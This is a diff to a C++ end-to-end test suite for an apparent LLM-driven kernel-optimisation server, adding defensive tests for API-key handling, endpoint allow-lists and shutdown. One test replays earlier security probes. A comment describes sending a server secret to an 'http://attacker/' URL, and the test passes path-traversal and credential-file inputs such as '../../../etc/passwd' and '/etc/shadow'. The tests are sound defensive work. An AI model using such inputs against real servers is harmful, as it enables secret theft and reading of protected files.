@@ -3,13 +3,16 @@
 // OpenAI and Anthropic wire formats on loopback. No GPU: verify and bench
 // cannot run here, so the session progresses with compile only and finish is
 // refused for want of a measured version.
+#include <signal.h>
 #include <sqlite3.h>
 
 #include <catch2/catch.hpp>
+#include <chrono>
 #include <nlohmann/json.hpp>
 
 #include <grpcpp/grpcpp.h>
 
+#include "absl/strings/ascii.h"
 #include "absl/strings/str_cat.h"
 #include "proto/kernelseek.grpc.pb.h"
 #include "tests/e2e/local_stack.h"
@@ -98,6 +101,26 @@ std::vector<std::pair<int64_t, std::string>> StoredTrace(const std::string& db_p
   return rows;
 }
 
+// --llm-endpoints for a server whose users may bring endpoints on loopback,
+// plus `extra` (more endpoints).
+std::vector<std::string> EndpointFlags(LocalStack& stack, const std::string& extra = "") {
+  const std::string path = stack.dir().File("endpoints.textproto");
+  WriteFile(path, "user_endpoint_url_prefix: \"http://127.0.0.1:\"\n" + extra);
+  return {"--llm-endpoints", path};
+}
+
+std::vector<std::string> Concat(std::vector<std::string> a, const std::vector<std::string>& b) {
+  a.insert(a.end(), b.begin(), b.end());
+  return a;
+}
+
+// Every byte the server wrote to its database files.
+std::string DatabaseBytes(LocalStack& stack) {
+  std::string all;
+  for (const char* suffix : {"", "-wal", "-shm"}) all += ReadFile(stack.dir().File(std::string("kseek.db") + suffix));
+  return all;
+}
+
 kernelseek::v1::SessionSpec Spec(const std::string& provider, const std::string& base_url, int max_steps) {
   kernelseek::v1::SessionSpec spec;
   spec.set_problem("attention_fwd");
@@ -135,7 +158,7 @@ TEST_CASE("a session reads, edits and compiles the kernel, is questioned by a hu
   const std::string provider = GENERATE(std::string("openai"), std::string("anthropic"));
   INFO("provider " << provider);
   LocalStack stack;
-  stack.StartServer({"--llm-attempts", "3", "--llm-backoff-ms", "50"});
+  stack.StartServer(Concat({"--llm-attempts", "3", "--llm-backoff-ms", "50"}, EndpointFlags(stack)));
   stack.StartWorker("cpu-1");
 
   json script = json::array({
@@ -229,7 +252,7 @@ TEST_CASE("a session reads, edits and compiles the kernel, is questioned by a hu
 TEST_CASE("an LLM endpoint that is down: retried, then the session fails clearly with nothing lost",
           "[e2e][session]") {
   LocalStack stack;
-  stack.StartServer({"--llm-attempts", "2", "--llm-backoff-ms", "50"});
+  stack.StartServer(Concat({"--llm-attempts", "2", "--llm-backoff-ms", "50"}, EndpointFlags(stack)));
   SessionClient client(stack.address(), stack.user_token());
   kernelseek::v1::Session session;
   // Port 1 on loopback: nothing listens there.
@@ -244,16 +267,181 @@ TEST_CASE("an LLM endpoint that is down: retried, then the session fails clearly
   REQUIRE(client.Get(session.id()).versions_size() == 1);  // the starting kernel is kept
 }
 
-TEST_CASE("StartSession refuses an API key variable the server does not have", "[e2e][session]") {
+// Issue 12's probes, against the real server: each now fails closed.
+TEST_CASE("StartSession refuses a server variable as the key, a URL the admin did not allow, and server files",
+          "[e2e][session]") {
   LocalStack stack;
-  stack.StartServer();
+  stack.StartServer({}, {{"KSEEK_E2E_SERVER_SECRET", "server-secret-value"}});
   SessionClient client(stack.address(), stack.user_token());
-  kernelseek::v1::SessionSpec spec = Spec("anthropic", "http://127.0.0.1:1/v1", 5);
-  spec.mutable_llm()->set_api_key_env("KSEEK_E2E_UNSET_API_KEY");
   kernelseek::v1::Session session;
-  grpc::Status status = client.Start(spec, &session);
-  REQUIRE(status.error_code() == grpc::StatusCode::FAILED_PRECONDITION);
-  REQUIRE_THAT(status.error_message(), Catch::Contains("KSEEK_E2E_UNSET_API_KEY"));
+
+  // --api-key-env SOME_SERVER_VARIABLE --llm-url http://attacker/...: the old
+  // field is refused, and without a user_endpoint_url_prefix no URL is posted to.
+  kernelseek::v1::SessionSpec spec = Spec("openai", "http://127.0.0.1:9/v1", 5);
+  spec.mutable_llm()->set_legacy_api_key_env("KSEEK_E2E_SERVER_SECRET");
+  grpc::Status variable = client.Start(spec, &session);
+  CHECK(variable.error_code() == grpc::StatusCode::INVALID_ARGUMENT);
+  CHECK_THAT(variable.error_message(), Catch::Contains("no longer possible"));
+  grpc::Status url = client.Start(Spec("openai", "http://127.0.0.1:9/v1", 5), &session);
+  CHECK(url.error_code() == grpc::StatusCode::PERMISSION_DENIED);
+  CHECK_THAT(url.error_message(), Catch::Contains("does not let users bring LLM endpoints"));
+
+  // --llm replay:/etc/shadow (an existence oracle) and /dev/zero (1 GB).
+  for (const char* trace : {"/etc/shadow", "/etc/does-not-exist", "/dev/zero", "../../../etc/passwd"}) {
+    INFO(trace);
+    kernelseek::v1::SessionSpec replay = Spec("replay", "", 5);
+    replay.mutable_llm()->clear_model();
+    replay.mutable_llm()->clear_base_url();
+    replay.mutable_llm()->set_replay_trace(trace);
+    grpc::Status status = client.Start(replay, &session);
+    CHECK(status.error_code() == grpc::StatusCode::INVALID_ARGUMENT);
+    CHECK_THAT(status.error_message(), Catch::Contains("not a plain file name"));
+  }
+  // A kernel source that is not UTF-8.
+  kernelseek::v1::SessionSpec binary = Spec("openai", "http://127.0.0.1:9/v1", 5);
+  binary.set_kernel_source(std::string("__global__ void k() {}\n\xc3\x28"));
+  grpc::Status utf8 = client.Start(binary, &session);
+  CHECK(utf8.error_code() == grpc::StatusCode::INVALID_ARGUMENT);
+  CHECK_THAT(utf8.error_message(), Catch::Contains("not UTF-8") && Catch::Contains("byte offset 23"));
+
+  const std::string log = ReadFile(stack.server()->log_path());
+  CHECK(log.find("server-secret-value") == std::string::npos);
+}
+
+TEST_CASE("an admin endpoint: the server's key goes to the admin's URL, and the endpoint's error text only to the "
+          "server log", "[e2e][session]") {
+  LocalStack stack;
+  json script = json::array({
+      Reply("Listing.", "c1", "list_files", json::object()),
+      {{"error", {{"status", 403}, {"message", "org-internal-7731 may not use this model"}}}},
+  });
+  std::string script_path = stack.dir().File("script.json");
+  WriteFile(script_path, script.dump());
+  auto llm = llm::FakeLlmServerProcess::Start(script_path, {"--api-key", "sk-admin-e2e"});
+  REQUIRE(llm.ok());
+  stack.StartServer(EndpointFlags(stack, absl::StrCat("endpoint { name: \"team\" provider: \"openai\" base_url: \"",
+                                                      (*llm)->base_url(),
+                                                      "\" api_key_env: \"KSEEK_E2E_ADMIN_KEY\" models: \"fake-model\" }\n")),
+                    {{"KSEEK_E2E_ADMIN_KEY", "sk-admin-e2e"}});
+  SubprocessResult started =
+      stack.Kseek({"session", "start", "--problem", "attention_fwd", "--arch", "sm_90a", "--kernel",
+                   std::string(KSEEK_SOURCE_DIR) + "/kernels/attention_fwd/naive.cu", "--target", "1.1",
+                   "--llm-endpoint", "team", "--questions", "off", "--max-steps", "5"});
+  INFO(started.stderr_text);
+  REQUIRE(started.exit_code == 0);
+  const std::string id = std::string(absl::StripAsciiWhitespace(started.stdout_text.substr(
+      started.stdout_text.rfind('\n', started.stdout_text.size() - 2) + 1)));
+  SessionClient client(stack.address(), stack.user_token());
+  kernelseek::v1::Session done = WaitForEnd(client, id);
+  INFO(done.status());
+  REQUIRE(done.state() == kernelseek::v1::SESSION_STATE_FAILED);
+  CHECK(done.steps() == 1);  // the admin's key worked for the first call
+  CHECK_THAT(done.status(), Catch::Contains("HTTP 403; see the server log"));
+  CHECK(done.status().find("org-internal-7731") == std::string::npos);
+  CHECK(done.status().find((*llm)->base_url()) == std::string::npos);
+  for (const SessionEvent& e : client.Watch(id, 0, false)) {
+    CHECK(e.payload_json().find("org-internal-7731") == std::string::npos);
+  }
+  CHECK_THAT(ReadFile(stack.server()->log_path()), Catch::Contains("org-internal-7731"));
+}
+
+TEST_CASE("a user-brought key is read by the CLI, used, and never stored or logged", "[e2e][session]") {
+  LocalStack stack;
+  constexpr char kKey[] = "sk-user-e2e-93b1d7";
+  json script = json::array({Reply("Listing.", "c1", "list_files", json::object())});
+  std::string script_path = stack.dir().File("script.json");
+  WriteFile(script_path, script.dump());
+  // The fake endpoint answers 401 to any other key.
+  auto llm = llm::FakeLlmServerProcess::Start(script_path, {"--api-key", kKey});
+  REQUIRE(llm.ok());
+  stack.StartServer(EndpointFlags(stack));
+  SubprocessResult started = stack.Kseek(
+      {"session", "start", "--problem", "attention_fwd", "--arch", "sm_90a", "--kernel",
+       std::string(KSEEK_SOURCE_DIR) + "/kernels/attention_fwd/naive.cu", "--target", "1.1", "--llm-url",
+       (*llm)->base_url(), "--llm-model", "fake-model", "--api-key-env", "MY_LLM_KEY", "--questions", "off",
+       "--max-steps", "5"},
+      "", {{"MY_LLM_KEY", kKey}});
+  INFO(started.stderr_text);
+  REQUIRE(started.exit_code == 0);
+  const std::string id = std::string(absl::StripAsciiWhitespace(started.stdout_text.substr(
+      started.stdout_text.rfind('\n', started.stdout_text.size() - 2) + 1)));
+  SessionClient client(stack.address(), stack.user_token());
+  // The first turn came back (the key was right); the second call finds the
+  // script used up, so the session ends.
+  kernelseek::v1::Session done = WaitForEnd(client, id);
+  CHECK(done.steps() == 1);
+  CHECK(DatabaseBytes(stack).find(kKey) == std::string::npos);
+  CHECK(ReadFile(stack.server()->log_path()).find(kKey) == std::string::npos);
+}
+
+TEST_CASE("a running session with a user-brought key ends FAILED after a restart, saying it needs the key",
+          "[e2e][session]") {
+  LocalStack stack;
+  constexpr char kKey[] = "sk-user-e2e-restart";
+  json script = json::array({json{{"reply", {{"content", "thinking"}}}, {"delay_s", 3600}}});
+  std::string script_path = stack.dir().File("script.json");
+  WriteFile(script_path, script.dump());
+  auto llm = llm::FakeLlmServerProcess::Start(script_path, {"--request-log", stack.dir().File("requests.jsonl")});
+  REQUIRE(llm.ok());
+  stack.StartServer(EndpointFlags(stack));
+  SessionClient client(stack.address(), stack.user_token());
+  kernelseek::v1::Session session;
+  kernelseek::v1::StartSessionRequest request;
+  grpc::ClientContext context;
+  client.Prepare(&context);
+  *request.mutable_spec() = Spec("openai", (*llm)->base_url(), 5);
+  request.set_llm_api_key(kKey);
+  auto stub = kernelseek::v1::Coordinator::NewStub(
+      grpc::CreateChannel(stack.address(), grpc::InsecureChannelCredentials()));
+  REQUIRE(stub->StartSession(&context, request, &session).ok());
+  REQUIRE(WaitFor([&] { return !ReadFile(stack.dir().File("requests.jsonl")).empty(); }, absl::Seconds(20)));
+  stack.KillServer(SIGTERM);
+  stack.StartServer(EndpointFlags(stack));
+  SessionClient again(stack.address(), stack.user_token());
+  kernelseek::v1::Session after = again.Get(session.id()).session();
+  CHECK(after.state() == kernelseek::v1::SESSION_STATE_FAILED);
+  CHECK_THAT(after.status(), Catch::Contains("came from the client") && Catch::Contains("start a new session"));
+  CHECK(DatabaseBytes(stack).find(kKey) == std::string::npos);
+}
+
+// Probe: SIGTERM waited 908 s for a hanging LLM call.
+TEST_CASE("SIGTERM ends the server within 10 s while an LLM call hangs, the call is recorded as aborted and the "
+          "session stays resumable", "[e2e][session]") {
+  LocalStack stack;
+  json script = json::array({json{{"reply", {{"content", "never sent"}}}, {"delay_s", 3600}}});
+  std::string script_path = stack.dir().File("script.json");
+  WriteFile(script_path, script.dump());
+  auto llm = llm::FakeLlmServerProcess::Start(script_path, {"--request-log", stack.dir().File("requests.jsonl")});
+  REQUIRE(llm.ok());
+  // Long timeouts and many attempts: only the abort can end the call in time.
+  stack.StartServer(Concat({"--llm-timeout", "3600", "--llm-attempts", "10"}, EndpointFlags(stack)));
+  SessionClient client(stack.address(), stack.user_token());
+  kernelseek::v1::Session session;
+  REQUIRE(client.Start(Spec("openai", (*llm)->base_url(), 5), &session).ok());
+  REQUIRE(WaitFor([&] { return !ReadFile(stack.dir().File("requests.jsonl")).empty(); }, absl::Seconds(20)));
+
+  const auto start = std::chrono::steady_clock::now();
+  stack.server()->Signal(SIGTERM);
+  const int exit_code = stack.server()->Wait();
+  const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+  const std::string log = ReadFile(stack.server()->log_path());
+  INFO(log);
+  CHECK(seconds < 10.0);
+  CHECK(exit_code == 0);
+  CHECK_THAT(log, Catch::Contains("stopped"));
+
+  std::vector<std::pair<int64_t, std::string>> stored = StoredTrace(stack.dir().File("kseek.db"), session.id());
+  REQUIRE(!stored.empty());
+  CHECK(stored.back().second == "llm_call_aborted");
+  sqlite3* db = nullptr;
+  REQUIRE(sqlite3_open_v2(stack.dir().File("kseek.db").c_str(), &db, SQLITE_OPEN_READONLY, nullptr) == SQLITE_OK);
+  sqlite3_stmt* stmt = nullptr;
+  REQUIRE(sqlite3_prepare_v2(db, "SELECT state FROM sessions WHERE id = ?", -1, &stmt, nullptr) == SQLITE_OK);
+  sqlite3_bind_int64(stmt, 1, std::stoll(session.id()));
+  REQUIRE(sqlite3_step(stmt) == SQLITE_ROW);
+  CHECK(sqlite3_column_int(stmt, 0) == kernelseek::v1::SESSION_STATE_RUNNING);
+  sqlite3_finalize(stmt);
+  sqlite3_close(db);
 }
 
 }  // namespace
